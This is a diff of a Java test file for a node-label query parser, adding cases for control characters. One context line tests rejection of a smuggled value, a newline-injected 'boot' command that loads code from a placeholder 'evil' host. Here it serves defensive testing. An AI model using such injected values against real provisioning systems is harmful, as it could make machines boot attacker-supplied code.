@@ -72,6 +72,22 @@ class NodeLabelsTest {
     assertEquals(Map.of(), NodeLabels.of("mac=52:da:00:89:d8:10%0aboot%20http://evil/x").all());
   }
 
+  static Stream<Arguments> controls() {
+    return Stream.of(
+        arguments("a=b%0Ac", Map.of("a", "b\nc")),
+        arguments("a%09=b%0D", Map.of("a\t", "b\r")),
+        arguments("a=%00&b=1", Map.of("a", "\0", "b", "1")),
+        arguments("a=%7F%C2%85%E2%80%A8", Map.of("a", "\u007f\u0085\u2028")),
+        arguments("mac=52:54:00:00:00:01%0A", Map.of()));
+  }
+
+  @ParameterizedTest
+  @MethodSource("controls")
+  void control_characters_are_kept_as_matchbox_keeps_them_where_that_is_asked_for(
+      String query, Map<String, String> labels) {
+    assertEquals(labels, NodeLabels.of(query, NodeLabels.Controls.KEPT).all());
+  }
+
   @Test
   void i_06_labels_without_end_are_bounded_and_the_first_value_wins() {
     String many = IntStream.range(0, 5000).mapToObj(i -> "k" + i + "=v").collect(joining("&"));
